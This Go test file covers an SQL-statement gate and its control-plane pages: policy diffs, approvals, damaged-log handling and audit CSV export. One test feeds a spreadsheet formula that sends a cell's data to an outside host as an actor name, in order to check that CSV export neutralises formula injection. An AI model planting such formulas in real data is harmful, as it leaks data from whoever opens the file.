package main

import (
	"bytes"
	"cmp"
	"context"
	"crypto/x509"
	"encoding/csv"
	"errors"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	cdpbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/stretchr/testify/require"

	"writegate/agentctl"
	"writegate/fixtures/browser"
	"writegate/fixtures/certs"
)

// A cap of a hundred times as many rows is looser, and a replay that shows no change
// says that it did not try caps.
func TestTheDiffSaysWhichWayACapGoes(t *testing.T) {
	t.Parallel()
	g := startShop(t)
	g.query(t, ask("SELECT id FROM orders WHERE id = 1"))
	g.propose(t, sampleVersion(t, "1.1.0", "max_rows: 100 }", "max_rows: 10000 }"))
	plane := startTestPlane(t, g.base).reader(t)
	wider := plane.page(t, "/policy-diff?target=shop-gate@1.1.0&last=24h")
	require.Contains(t, wider, `<span class="pill bad">Looser</span>`)
	require.NotContains(t, wider, "it depends on the statement")
	require.Contains(t, wider, "The terms of approvals change too, and that does not show here.")
	require.Contains(t, wider, "Only decisions are replayed. Caps are not")
	require.Contains(t, plane.page(t, "/policy-diff?base=shop-gate@1.1.0&target=shop-gate@1.0.0"), `<span class="pill good">Tighter</span>`)
	code, out, errs := g.cli(t, "", "policy", "diff", "active", "shop-gate@1.1.0", "--replay", "24h")
	require.Zero(t, code, errs)
	require.Contains(t, out, ", looser")
	require.Contains(t, out, "whether a statement would have passed max_rows")
}

// A delete that cascades changed more rows than its command tag says.
func TestThePagesSayHowManyRowsChangedInAll(t *testing.T) {
	t.Parallel()
	g := startShop(t)
	g.execute(t, "INSERT INTO order_items VALUES (40, 2)")
	one := ask("DELETE FROM orders WHERE id = 40")
	ran := g.query(t, one.with("approval_id", g.approved(t, one)))
	require.Equal(t, http.StatusOK, ran.status, "%s", ran.body)
	plane := startTestPlane(t, g.base).reader(t)
	for _, path := range []string{"/requests/" + ran.text(t, "request_id"), "/executions/" + ran.text(t, "execution_id")} {
		require.Contains(t, plane.page(t, path), "DELETE 1: 3 rows changed in all, with those of cascades and triggers", path)
	}
}

// An entry shows what its line says beside the message, and leads to a request that the
// event log knows; of others there is nothing to lead to.
func TestTheLogsLeadToRequestsThatAreThere(t *testing.T) {
	t.Parallel()
	g := startShop(t)
	known := g.query(t, ask("SELECT FROM WHERE"))
	require.Equal(t, http.StatusBadRequest, known.status)
	for range 3 {
		require.Equal(t, http.StatusNotFound, g.get(t, "/approvals/apr_nobody").status)
	}
	plane := startTestPlane(t, g.base).reader(t)
	logs := plane.page(t, "/logs")
	require.Contains(t, logs, "path <code>/approvals/apr_nobody</code>")
	require.Contains(t, logs, "status <code>404</code>")
	require.Contains(t, logs, "found <code>")
	require.NotContains(t, string(g.get(t, "/logs").body), `"found"`, "what is open about the database is for operators")
	links := storyLink.FindAllStringSubmatch(logs, -1)
	require.NotEmpty(t, links)
	for _, link := range links {
		require.Contains(t, plane.page(t, strings.ReplaceAll(link[1], "&amp;", "&")), "Refused before a decision")
	}
	require.Regexp(t, regexp.MustCompile(`title="req_[0-9a-f-]+: no event bears this id"`), logs)
}

// Over a damaged log reads go on as far as it verifies and say how far that is; nothing
// is called absent for want of it, and nothing is offered that would be refused.
func TestADamagedLogIsReadAsFarAsItVerifies(t *testing.T) {
	t.Parallel()
	d := newGateDir(t, nil)
	d.execute(t, shopTables)
	w := &agentWorld{key: agentctl.NewSecret(agentctl.KeyPrefix)}
	w.testGate = startGate(t, d, "GATE_PROJECT_KEYS=shop/ops="+w.key)
	g := w.testGate
	agent, token := w.register(t, "bot")
	first := g.query(t, ask("SELECT id FROM orders WHERE id = 1"))
	g.activate(t, sampleVersion(t, "1.1.0", "max_rows: 100 }", "max_rows: 50 }")) // so that there is a version to go back to
	var marked uint64
	for id := range 40 {
		g.query(t, ask(fmt.Sprintf("SELECT id FROM orders WHERE id = %d", id)).with("actor", "later"))
		if id == 20 {
			marked = uint64(g.get(t, "/health").json(t)["log"].(map[string]any)["seq"].(float64))
		}
	}
	require.Equal(t, http.StatusOK, w.as(t, token, ask("SELECT id FROM orders WHERE id = 1")).status)
	deletes := ask("DELETE FROM orders WHERE id = 2") // and what hangs on it
	require.Equal(t, http.StatusOK, g.query(t, deletes.with("approval_id", g.approved(t, deletes))).status)
	g.end(t)
	content := mustRead(t, d.file("audit.wal"))
	events := d.events(t)
	at := bytes.Index(content, events[marked].ID[:])
	require.Positive(t, at)
	content[at] ^= 1
	require.NoError(t, os.WriteFile(d.file("audit.wal"), content, 0o600))

	g = startGate(t, d, "GATE_PROJECT_KEYS=shop/ops="+w.key)
	defer g.endDamaged(t)
	all := g.get(t, "/audit?limit=1000&order=asc").json(t)
	verified := uint64(all["damaged"].(map[string]any)["verified_to"].(float64))
	require.LessOrEqual(t, verified, marked)
	require.Greater(t, verified, marked-6, "the batch before the damage verifies")
	require.Equal(t, float64(verified), g.get(t, "/health").json(t)["log"].(map[string]any)["verified_to"])
	require.Len(t, all["items"], int(verified))
	newest := seqsOf(allPages(t, g, url.Values{"actor": {"later"}, "limit": {"7"}}))
	require.NotEmpty(t, newest)
	require.True(t, slices.IsSortedFunc(newest, func(a, b uint64) int { return cmp.Compare(b, a) }))
	require.Equal(t, slices.Sorted(slices.Values(newest)), seqsOf(allPages(t, g, url.Values{"actor": {"later"}, "limit": {"7"}, "order": {"asc"}})))

	code, out, errs := g.cli(t, "", "audit", "search", "--actor", "later", "--limit", "0")
	require.Equal(t, exitFailed, code, "a part is no whole")
	require.Equal(t, len(newest)+1, strings.Count(out, "\n"), out)
	require.Contains(t, errs, fmt.Sprintf("The event log is damaged behind event %d.", verified))
	for _, list := range []string{"executions list", "executions list --state unknown", "approvals list"} {
		code, out, errs := g.cli(t, "", strings.Fields(list)...)
		require.Equal(t, exitFailed, code, list)
		require.Contains(t, errs, fmt.Sprintf("The event log is damaged behind event %d.", verified), list)
		require.NotRegexp(t, "No execution|Nothing waits", out, list)
	}

	_, out, _ = g.cli(t, "", "executions", "list")
	require.Contains(t, out, "DELETE 1; how many rows changed in all is not known")

	plane := startTestPlane(t, g.base, "CONTROL_PLANE_PROJECT_KEY="+w.key).reader(t)
	for path, shown := range map[string][]string{
		"/":                         {"The event log is damaged, so every statement is refused.", `<a href="/evidence">See the damage, and what to do</a>`, "not known: the log is damaged", "Refusing everything"},
		"/executions":               {"Not known: the log is damaged.", "DELETE 1; how many rows changed in all is not known"},
		"/agents/" + agent:          {"Its statements, and changes of it</h2><p class=\"empty\">Not known: the log is damaged.", "Newest telemetry</h2><p class=\"empty\">Not known"},
		"/approvals":                {"Not known: the event log is damaged, and an approval may wait that can't be read."},
		"/policies":                 {"Nothing can be changed here while the log is damaged.", "Not known: the log is damaged. The rules are read from the document of the active version"},
		"/evidence":                 {fmt.Sprintf("It verifies up to event %d; nothing vouches for what came later. The gate found: ", verified), "“After damage or loss” in <code>docs/OPERATIONS.md</code>"},
		"/policies/shop-gate@1.0.0": {"what this version would change is not tried"},
		"/policy-diff?target=shop-gate@1.0.0&last=24h": {"What was decided is not tried again: the log is damaged."},
		"/audit":           {"all that can be read and fit"},
		"/audit?actor=ana": {fmt.Sprintf("The log is damaged behind event %d.", verified), first.text(t, "request_id")},
		"/requests/" + first.text(t, "request_id"): {"Chain not verified", "Request received"},
	} {
		page := plane.page(t, path)
		for _, text := range shown {
			require.Contains(t, page, text, path)
		}
		for _, text := range []string{"every outcome is known", "Every outcome is known", "No decision in the last hour", "nothing to decide", "Nobody waits", "all that fit", "No statement was timed", "The service failed", "Roll back to", "Submit a new version", "None yet"} {
			require.NotContains(t, page, text, path)
		}
	}
}

// A card says that another policy decides by now. Over a damaged log it offers no
// decision, and takes what can be read of earlier ones for no more than that.
func TestACardKnowsWhatChangedSinceItWasAsked(t *testing.T) {
	t.Parallel()
	d := newGateDir(t, nil)
	d.execute(t, shopTables)
	g := startGate(t, d)
	card := "/approvals/" + g.query(t, ask("DELETE FROM orders WHERE id = 2")).text(t, "approval_id")
	plane := startTestPlane(t, g.base).reader(t)
	page := plane.page(t, card)
	require.NotContains(t, page, "has become the active policy")
	require.Contains(t, page, "none of its shape was decided this week")
	require.Contains(t, page, "Approve…")
	g.activate(t, sampleVersion(t, "1.1.0", "max_rows: 100 }", "max_rows: 50 }"))
	require.Contains(t, plane.page(t, card), "shop-gate@1.1.0</a> has become the active policy.")
	for id := range 20 {
		g.query(t, ask(fmt.Sprintf("SELECT id FROM orders WHERE id = %d", id)))
	}
	g.end(t)
	content, events := mustRead(t, d.file("audit.wal")), d.events(t)
	at := bytes.Index(content, events[len(events)-10].ID[:])
	require.Positive(t, at)
	content[at] ^= 1
	require.NoError(t, os.WriteFile(d.file("audit.wal"), content, 0o600))

	g = startGate(t, d)
	defer g.endDamaged(t)
	plane = startTestPlane(t, g.base).reader(t)
	for path, shown := range map[string][]string{
		"/":          {"Waiting, and not to be decided while the gate refuses everything"},
		"/approvals": {"Delete from public.orders"},
		card:         {"Nothing can be decided here while the log is damaged.", "what was decided of its shape is not known", "Not known.", "As far as the damaged log can be read."},
	} {
		page := plane.page(t, path)
		for _, text := range shown {
			require.Contains(t, page, text, path)
		}
		for _, text := range []string{"Approve…", "Reject…", "Select all", "Next to decide", "none of its shape", "No approval of this shape"} {
			require.NotContains(t, page, text, path)
		}
	}
	code, out, errs := g.cli(t, "", "approvals", "show", strings.TrimPrefix(card, "/approvals/"))
	require.Zero(t, code, errs)
	require.Contains(t, out, "not all that was decided could be read")
	require.Contains(t, out, "What ended this approval may be lost, and nothing can be decided.")
}

// What another policy makes of an approval, which became active behind it, stands first:
// on the card, in the question whether to approve, and on the command line.
func TestACardSaysWhatThePolicyOfNowMakesOfIt(t *testing.T) {
	t.Parallel()
	g := startShop(t)
	id := g.hold(t, ask("DELETE FROM orders WHERE id = 2").with("actor", "frozen-bot"))
	other := g.hold(t, ask("DELETE FROM orders WHERE id = 3").with("actor", "frozen-bot"))
	plane := startTestPlane(t, g.base).reader(t)
	frozen := []string{"rules:\n", "rules:\n  - { id: frozen, decision: BLOCK, reason_code: frozen, match: { class: [write], actor: [frozen-bot] } }\n"}
	for _, c := range []struct {
		version string
		change  []string
		says    string
		filled  bool
	}{
		{"1.1.0", []string{"max_rows: 100 }", "max_rows: 1 }"}, "It may then run once and change 1 row at most: shop-gate@1.1.0 is active now and has that limit.", false},
		{"1.2.0", []string{"max_rows: 100 }", "max_rows: 200 }"}, "exactly as shown, when the caller sends it again in time: shop-gate@1.2.0 is active now and asks for that, too.", true},
		{"1.3.0", frozen, "It does not run, approved or not: shop-gate@1.3.0 is active now and blocks it (frozen).", false},
	} {
		g.activate(t, sampleVersion(t, c.version, c.change...))
		page := plane.page(t, "/approvals/"+id)
		require.Contains(t, page, "</a> has become the active policy. "+map[bool]string{true: "It may then run once, "}[c.filled]+c.says)
		require.Regexp(t, `data-since="[^"]*`+regexp.QuoteMeta(c.says)+`"`, page, "the question says it, too")
		require.Equal(t, c.filled, strings.Contains(page, `class="main" data-decision="approve"`), c.version)
		require.Equal(t, c.version == "1.1.0", strings.Contains(page, "<dd>1 row; over that nothing is changed</dd>"), c.version)
		require.NotContains(t, plane.page(t, "/approvals"), "Approve the selected")
		_, out, errs := g.cli(t, "", "approvals", "show", id)
		require.Empty(t, errs)
		require.Contains(t, out, c.says)
	}
	code, out, errs := g.cli(t, "", "approvals", "approve", other, "--yes")
	require.Zero(t, code, errs)
	require.Contains(t, out, "is approved, by operator")
	require.Contains(t, out, "It does not run, approved or not: shop-gate@1.3.0")
	require.Contains(t, plane.page(t, "/approvals/"+other), "It does not run, approved or not")
}

// However many requests of a shape only wait, what was decided of it is on the card and on
// the command line, and where not all could be read, both say so.
func TestWaitingRequestsHideNoDecision(t *testing.T) {
	t.Parallel()
	g := startShop(t)
	next := 0
	hold := func() string {
		next++
		return g.hold(t, ask(fmt.Sprintf("DELETE FROM orders WHERE id = %d", next)))
	}
	for range 20 {
		require.Equal(t, http.StatusOK, g.resolve(t, hold(), "reject").status)
	}
	eldest := hold()
	var card string
	for range 200 {
		card = hold()
	}
	plane := startTestPlane(t, g.base).reader(t)
	said := func() (page, out string) {
		t.Helper()
		code, out, errs := g.cli(t, "", "approvals", "show", card)
		require.Zero(t, code, errs)
		return plane.page(t, "/approvals/"+card), out
	}
	page, out := said()
	require.Contains(t, page, "; 0 of its shape were approved this week, 20 rejected")
	require.NotContains(t, page, "not all could be read")
	require.Regexp(t, `before +0 approved and 20 rejected in the last 7 days, of this shape and these tables; 20 of these with other values\n`, out)

	require.Equal(t, http.StatusOK, g.resolve(t, eldest, "reject").status)
	page, out = said()
	require.Contains(t, page, "; at least 0 of its shape were approved this week, 20 rejected")
	require.Contains(t, page, "not all could be read")
	require.Regexp(t, `before +at least 0 approved and 20 rejected .*; not all that was decided could be read\n`, out)
}

// A caller that is called like a part of the inbox is not taken for it.
func TestTheNameOfACallerIsNoPartOfTheInbox(t *testing.T) {
	t.Parallel()
	g := startShop(t)
	g.hold(t, ask("DELETE FROM orders WHERE id = 1"))
	g.hold(t, ask("DELETE FROM orders WHERE id = 2").with("actor", "High risk"))
	page := startTestPlane(t, g.base).reader(t).page(t, "/approvals")
	require.Contains(t, page, ">All 2</a>")
	require.Contains(t, page, ">“High risk” 1</a>")
	require.NotContains(t, page, ">High risk 1</a>")
}

func TestTheDemonstrationDoesNotCallARefusingGateUp(t *testing.T) {
	t.Parallel()
	d := newGateDir(t, nil)
	startGate(t, d).end(t)
	spoilFirstEvent(t, d)
	var out lockedBuffer
	ctx, stop := context.WithCancel(context.Background())
	ready, ended := make(chan string, 1), make(chan int, 1)
	files := t.TempDir()
	pair := certs.NewAuthority(t, files, "servers").Issue(files, "gate.test", x509.ExtKeyUsageServerAuth) // over TLS it starts no dashboard, which would be a process of this test's program
	a := &app{streams: streams{strings.NewReader(""), &out, &out}, environ: append(d.environ(), "GATE_TLS_CERT_PATH="+pair.Cert, "GATE_TLS_KEY_PATH="+pair.Key), ready: func(addr string) { ready <- addr }}
	go func() { ended <- a.run(ctx, []string{"demo", "--dir", t.TempDir()}) }()
	select {
	case <-ready:
	case code := <-ended:
		ended <- code
	}
	stop()
	<-ended
	require.NotContains(t, out.String(), "The gate is up at")
	require.Contains(t, out.String(), "REFUSES EVERY STATEMENT and only answers reads")
}

// Words and times of the frame: the mode, a database out of reach, and a switch between
// the browser's zone and UTC that the browser keeps nothing for.
func TestThePagesShowTimesInUTCWhereTheSessionSaysSo(t *testing.T) {
	t.Parallel()
	g := startShop(t)
	plane := startTestPlane(t, g.base).reader(t)
	page := plane.page(t, "/audit")
	require.NotContains(t, page, `data-times="utc"`)
	csrf := regexp.MustCompile(`name="csrf" value="([^"]+)"`).FindStringSubmatch(page)[1]
	turn := func(token string) int {
		request, err := http.NewRequestWithContext(t.Context(), http.MethodPost, plane.base+"/times", strings.NewReader(url.Values{"csrf": {token}, "next": {"/audit"}}.Encode()))
		require.NoError(t, err)
		request.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		request.Header.Set("Origin", plane.base)
		request.Header.Set("Sec-Fetch-Site", "same-origin")
		answer, err := plane.Do(request)
		require.NoError(t, err)
		require.NoError(t, answer.Body.Close())
		return answer.StatusCode
	}
	require.Equal(t, http.StatusForbidden, turn("another"))
	require.NotContains(t, plane.page(t, "/audit"), `data-times="utc"`)
	require.Equal(t, http.StatusOK, turn(csrf))
	require.Contains(t, plane.page(t, "/policies"), `data-times="utc"`)
	require.Equal(t, http.StatusOK, turn(csrf))
	require.NotContains(t, plane.page(t, "/policies"), `data-times="utc"`)
}

// What became of a statement is found under the policy that decided about it, and a
// bypass that is over warns at the start.
func TestAResultNamesThePolicyOfItsDecision(t *testing.T) {
	t.Parallel()
	d := newGateDir(t, nil)
	d.execute(t, shopTables)
	g := startGate(t, d, "GATE_MODE=emergency_bypass", "GATE_EMERGENCY_BYPASS_REASON=a drill", "GATE_EMERGENCY_BYPASS_UNTIL="+time.Now().Add(-time.Hour).UTC().Format(time.RFC3339))
	require.Contains(t, g.output.String(), "GATE_MODE is emergency_bypass and its time is over, so the gate enforces")
	require.Equal(t, "enforce", g.get(t, "/health").text(t, "mode"))
	require.Equal(t, http.StatusOK, g.query(t, ask("UPDATE orders SET status = 'paid' WHERE id = 1")).status)
	g.query(t, ask("INSERT INTO orders (id, customer_id, status) VALUES (1, 1, 'new')")) // the key is taken
	for _, kind := range []string{"execution_success", "execution_failure"} {
		found, _ := auditEvents(t, g, url.Values{"policy_version": {"shop-gate@1.0.0"}, "event_type": {kind}})
		require.Len(t, found, 1, kind)
	}
}

func TestTwoProjectKeysHaveTwoLabels(t *testing.T) {
	t.Parallel()
	entries := make([]string, 2)
	for i := range entries {
		var out lockedBuffer
		require.Zero(t, (&app{streams: streams{strings.NewReader(""), &out, &out}}).run(t.Context(), []string{"keys", "create"}))
		entries[i] = regexp.MustCompile(`GATE_PROJECT_KEYS=(\S+)`).FindStringSubmatch(out.String())[1]
	}
	_, err := agentctl.ParseProjectKeys(strings.Join(entries, ","))
	require.NoError(t, err)
}

// Whoever activates a version reads on that page what changes, what the last day would
// have been, and what becomes of the approvals that wait, before the button.
func TestASubmittedVersionIsReviewedOnOnePage(t *testing.T) {
	t.Parallel()
	g := startShop(t)
	held := g.hold(t, ask("DELETE FROM orders WHERE id = 2").with("actor", "frozen-bot"))
	stays := g.hold(t, ask("ALTER TABLE orders ADD COLUMN note text").with("actor", "migrations"))
	g.propose(t, sampleVersion(t, "1.1.0", "rules:\n", "rules:\n  - { id: frozen, decision: BLOCK, reason_code: frozen, match: { class: [write], actor: [frozen-bot] } }\n"))
	plane := startTestPlane(t, g.base).reader(t)
	page := plane.page(t, "/policies/shop-gate@1.1.0")
	places := []int{0}
	for _, text := range []string{"Checked just now", `<span class="pill good">Tighter</span>`, "Of 2 recorded decisions", "Only decisions are replayed.", `class="sides"`,
		"Of 2 approvals that wait <strong>1</strong> would be blocked", `href="/approvals/` + held + `"`, "The activation is bound to the replay above", ">Activate…<"} {
		at := strings.Index(page, text)
		require.Greater(t, at, places[len(places)-1], "%s stands behind what is above it", text)
		places = append(places, at)
	}
	require.NotContains(t, page, `href="/approvals/`+stays+`"`)
	require.NotContains(t, plane.page(t, "/policies/shop-gate@1.0.0"), `id="review"`)
}

// A row of the log is a request with its statement and what became of it, whatever ids
// clients choose; a set is saved as the log has it, or for a spreadsheet, which runs
// nothing of it.
func TestTheDecisionsPageShowsARowARequest(t *testing.T) {
	t.Parallel()
	g := startShop(t)
	const id = "X-Request-Id: the-same"
	formula := `=HYPERLINK("http://example.com/?"&A1)`
	for n, actor := range []string{"ana", formula} {
		r := g.do(t, http.MethodPost, "/query", mustJSON(t, ask(fmt.Sprintf("UPDATE orders SET status = 'paid' WHERE id = %d", n+1)).with("actor", actor)), id)
		require.Equal(t, http.StatusOK, r.status, "%s", r.body)
	}
	g.query(t, ask("DELETE FROM orders"))
	held := g.hold(t, ask("DELETE FROM orders WHERE id = 7"))
	require.Equal(t, http.StatusOK, g.resolve(t, held, "reject").status)
	plane := startTestPlane(t, g.base).reader(t)
	page := plane.page(t, "/audit?since=last+2+h")
	require.Equal(t, 2, strings.Count(page, "Allowed, then ran"), "two requests of one id are two rows")
	require.Contains(t, page, `<a href="/audit?table=public.orders">public.orders</a> · UPDATE 1`)
	for column, order := range map[string][]string{"": {"Rejected", "Blocked", "then ran"}, "decision": {"then ran", "Blocked", "Rejected"}, "reason": {"Blocked", "then ran"}} {
		sorted, at := plane.page(t, "/audit?since=last+2+h&sort="+column), 0
		for _, words := range order {
			next := strings.Index(sorted[at:], words)
			require.NotEqual(t, -1, next, "%s stands where %s has it", words, column)
			at += next
		}
		require.Equal(t, 1, strings.Count(sorted, "aria-sort="), column)
	}
	require.Contains(t, plane.page(t, "/audit?sort=colour"), "Sort must be one of decision, table, requester, reason, or left out.")
	ofTable := plane.page(t, "/audit?table=public.orders")
	require.Equal(t, 4, strings.Count(ofTable, `class="dot`), "decisions about a table, whatever they were")
	require.Contains(t, plane.page(t, "/audit?table=public.order_items"), "No event fits this filter.")
	require.Contains(t, plane.page(t, "/audit?table=orders"), "Table must be a table with its schema, such as public.orders.")
	require.Contains(t, page, "Rejected by operator: “from a test”")
	require.Contains(t, page, ">Blocked")
	blocked := plane.page(t, "/audit?decision=BLOCK&event_type=decision_recorded")
	require.Contains(t, blocked, "public.orders")
	require.Regexp(t, `(?s)DELETE.*FROM.*orders`, blocked, "the statement is found where the filter leaves it out")
	require.Contains(t, plane.page(t, "/audit?since=2100-01-01T00:00:00Z"), "No event fits this filter.")
	require.Contains(t, plane.page(t, "/audit?decision=MAYBE"), "Decision must be one of ALLOW, BLOCK, REQUIRE_APPROVAL.")
	require.Contains(t, plane.page(t, "/audit?since=yesterday"), "Since must be a moment like 2026-01-31T18:00:00Z, or how far back from now: last 15 min, last 2 h, last 7 days.")
	require.Contains(t, page, `/audit?since=last&#43;24&#43;h`)

	file := plane.page(t, "/audit/download?format=csv&event_type=decision_recorded")
	records, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, 5)
	require.Equal(t, []string{"seq", "timestamp", "event_type", "decision", "operation", "actor"}, records[0][:6])
	require.Equal(t, "'"+formula, records[2][5])
	for _, record := range records {
		for _, cell := range record {
			require.NotRegexp(t, `^\s*[=+@-]`, cell)
		}
	}

	require.Equal(t, []string{"agent_id", "tables", "statement"}, records[0][len(records[0])-3:])
	require.Contains(t, fmt.Sprint(records[1:]), "public.orders")
	received, err := csv.NewReader(strings.NewReader(plane.page(t, "/audit/download?format=csv&event_type=request_received"))).ReadAll()
	require.NoError(t, err)
	require.Regexp(t, `DELETE FROM orders`, received[len(received)-1][len(records[0])-1])

	failed := g.query(t, ask("INSERT INTO orders (id, customer_id, status) VALUES (1, 1, 'new')").with("actor", "bob")) // the key is taken
	require.NotEqual(t, http.StatusOK, failed.status)
	ofBob := plane.page(t, "/audit?actor=bob")
	require.Regexp(t, `<span class="dot bad" aria-hidden="true"></span>Allowed, then failed`, ofBob, "the tone is that of the end")
	require.Contains(t, ofBob, "<summary>Filter: actor bob</summary>")
	require.NotContains(t, ofBob, "Only events that fit the filter are shown")
	decided := plane.page(t, "/audit?actor=bob&event_type=decision_recorded")
	require.Contains(t, decided, "Only events that fit the filter are shown")
	require.Contains(t, plane.page(t, "/audit?table=public.orders"), "Only events that fit the filter are shown")
	require.Contains(t, decided, "2 of its events")
	require.Contains(t, decided, `<a href="/audit?actor=bob">Show all types</a>`)

	g.query(t, ask("SELECT id"+strings.Repeat(", status", 60)+" FROM orders WHERE id = 1").with("actor", "longwinded"))
	cut := plane.page(t, "/audit?actor=longwinded")
	require.Contains(t, cut, "⟨cut: ")
	require.NotContains(t, cut, "looks like", "what the page cuts off is none of the statement's letters")
}

// What the gate asks the server about a statement before it waits is evidence, and neither a
// second request nor a decision about a run.
func TestWhatIsPlannedIsAskedOnce(t *testing.T) {
	t.Parallel()
	d := newGateDir(t, nil)
	d.execute(t, shopTables)
	w := &agentWorld{key: agentctl.NewSecret(agentctl.KeyPrefix)}
	w.testGate = startGate(t, d, "GATE_PROJECT_KEYS=shop/ops="+w.key, "GATE_PLAN_ESTIMATES=true")
	agent, token := w.register(t, "bot")
	one := ask("DELETE FROM customers WHERE id = 7").with("actor", "bea")
	held := w.as(t, token, one)
	require.Equal(t, http.StatusAccepted, held.status, "%s", held.body)
	request, id := held.text(t, "request_id"), held.text(t, "approval_id")
	seen, _ := auditEvents(t, w.testGate, url.Values{"request_id": {request}, "event_type": {"decision_recorded"}})
	require.Len(t, seen, 2, "it was planned")

	plane := startTestPlane(t, w.base).reader(t)
	page := plane.page(t, "/audit?actor=bea")
	require.Equal(t, 1, strings.Count(page, `class="dot`), "a row a request")
	require.Contains(t, page, "Timeline of 5 events")
	require.Equal(t, 1, strings.Count(plane.page(t, "/audit?actor=bea&event_type=decision_recorded"), `class="dot`))
	require.Contains(t, page, "0 allowed, 1 asked for approval, 0 blocked")
	require.Contains(t, plane.page(t, "/"), "0 allowed, 1 asked for approval, 0 blocked")
	require.NotContains(t, plane.page(t, "/requests/"+request), "requests bear this id")
	require.Contains(t, plane.page(t, "/approvals/"+w.hold(t, ask("DELETE FROM customers WHERE id = 8").with("actor", "bea"))), "<dd>1 asked, <a")
	require.Contains(t, plane.page(t, "/audit?from_seq="+fmt.Sprint(seen[1]["seq"])+"&to_seq="+fmt.Sprint(seen[1]["seq"])), "Described or planned, nothing ran")

	require.Equal(t, http.StatusOK, w.resolve(t, id, "approve").status)
	ran := w.do(t, http.MethodPost, "/query", mustJSON(t, one.with("approval_id", id)), "Authorization: Bearer "+token, "X-Request-Id: "+request)
	require.Equal(t, http.StatusOK, ran.status, "%s", ran.body)
	w.propose(t, sampleVersion(t, "1.1.0", "max_rows: 100 }", "max_rows: 50 }"))
	replayed := w.testGate.post(t, "/policy/diff", `{"base":"active","target":"shop-gate@1.1.0","replay":{"last":"1h"}}`).json(t)
	require.Equal(t, 3.0, replayed["replay"].(map[string]any)["evaluated"], "two asked, and one ran")
	totals := w.v1(t, http.MethodGet, "/metrics?agent_id="+agent, "").json(t)["totals"].(map[string]any)
	require.Equal(t, 1.0, totals["sql"].(map[string]any)["require_approval"], totals)
}

// What ran against a decision is not called good, and says why it ran.
func TestWhatABypassLetThroughIsNamed(t *testing.T) {
	t.Parallel()
	for said, settings := range map[string][]string{
		"Asks for approval (bypass: not enforced), then ran": {"GATE_MODE=emergency_bypass", "GATE_EMERGENCY_BYPASS_REASON=a drill", "GATE_EMERGENCY_BYPASS_UNTIL=" + time.Now().Add(time.Hour).UTC().Format(time.RFC3339)},
		"Asks for approval (not enforced), then ran":         {"GATE_MODE=shadow"},
	} {
		g := startShop(t, settings...)
		ran := g.do(t, http.MethodPost, "/query", mustJSON(t, ask("DELETE FROM customers WHERE id = 7")), operatorHeader)
		require.Equal(t, http.StatusOK, ran.status, "%s", ran.body)
		plane := startTestPlane(t, g.base).reader(t)
		require.Contains(t, plane.page(t, "/audit"), `<span class="dot warn" aria-hidden="true"></span>`+said)
		require.Contains(t, plane.page(t, "/"), "Of those asked or blocked 1 was not enforced", "from the log")
		require.Equal(t, http.StatusOK, g.do(t, http.MethodPost, "/query", mustJSON(t, ask("DELETE FROM customers WHERE id = 8")), operatorHeader).status)
		require.Contains(t, plane.page(t, "/"), "Of those asked or blocked 2 were not enforced", "and from the counters")
		for _, path := range []string{"/", "/requests/" + ran.text(t, "request_id")} {
			require.Contains(t, plane.page(t, path), "Asks for approval"+strings.TrimSuffix(strings.TrimPrefix(said, "Asks for approval"), ", then ran"), path)
		}
	}
}

// Whose token was checked stands beside what a client claims, and finds what it did.
func TestDecisionsNameTheAgentWhoseTokenWasChecked(t *testing.T) {
	t.Parallel()
	w := startAgents(t)
	id, token := w.register(t, "bot")
	require.Equal(t, http.StatusOK, w.as(t, token, ask("SELECT 1").with("actor", "of the agent")).status)
	require.Equal(t, http.StatusOK, w.query(t, ask("SELECT 2").with("actor", "of nobody")).status)
	plane := startTestPlane(t, w.base).reader(t)
	page := plane.page(t, "/audit?event_type=decision_recorded")
	require.Equal(t, 1, strings.Count(page, ", its token checked"))
	require.Contains(t, page, `href="/audit?agent_id=`+id)
	page = plane.page(t, "/audit?event_type=decision_recorded&agent_id="+id)
	require.Contains(t, page, "of the agent")
	require.NotContains(t, page, "of nobody")
	file := plane.page(t, "/audit/download?format=csv&event_type=decision_recorded&agent_id="+id)
	require.Equal(t, 2, strings.Count(file, "\n"))
	require.Contains(t, file, ","+id+",")
}

// A filter that there is not says which there are, be it the page's or the gate's.
func TestAFilterThatThereIsNotNamesThoseThatThereAre(t *testing.T) {
	t.Parallel()
	w := startAgents(t)
	plane := startTestPlane(t, w.base, "CONTROL_PLANE_PROJECT_KEY="+w.key).reader(t)
	for path, says := range map[string]string{
		"/approvals?show=foo": "Show must be pending, approved, rejected or expired.",
		"/approvals?risk=foo": "Risk must be high, elevated or ordinary.",
		"/agents?status=foo":  "Status must be one of active, inactive, all.",
	} {
		answer, err := plane.Get(plane.base + path)
		require.NoError(t, err)
		text, err := io.ReadAll(answer.Body)
		require.NoError(t, errors.Join(err, answer.Body.Close()))
		require.Equal(t, http.StatusBadRequest, answer.StatusCode)
		require.Contains(t, string(text), says, path)
	}
}

func TestADatabaseOutOfReachHasABanner(t *testing.T) {
	t.Parallel()
	d := newGateDir(t, nil)
	d.database = "postgres://nobody@127.0.0.1:1/nowhere"
	plane := startTestPlane(t, startGate(t, d).base).reader(t)
	page := plane.page(t, "/")
	require.Contains(t, page, "<strong>The database is out of reach.</strong> Decisions are made and nothing runs.")
	require.Contains(t, page, `<span class="pill good" id="gate-state" data-region>Enforcing</span>`)
	require.Contains(t, page, "if it stays, look at the database server")
	require.NotContains(t, page, "tell the operator")
}

// The chart counts what fits the filter over its whole span, by outcome and by rule, and a
// form narrows it with the other filters kept.
func TestDecisionsAreCountedOverTimeAndByRule(t *testing.T) {
	t.Parallel()
	g := startShop(t)
	for id := range 3 {
		g.query(t, ask(fmt.Sprint("SELECT id FROM orders WHERE id = ", id)))
	}
	g.query(t, ask("DELETE FROM orders"))
	g.query(t, ask("DELETE FROM orders WHERE id = 1").with("actor", "ben"))
	plane := startTestPlane(t, g.base).reader(t)
	page := plane.page(t, "/audit?since=last+1+h&event_type=decision_recorded&table=public.orders")
	require.Contains(t, page, "3 allowed, 1 asked for approval, 1 blocked")
	require.Regexp(t, `data-steps="1[23]"`, page, "an hour in steps of 5 minutes")
	require.Contains(t, page, "all that fit, as of when the page was opened; a bar is 5 min, the highest ")
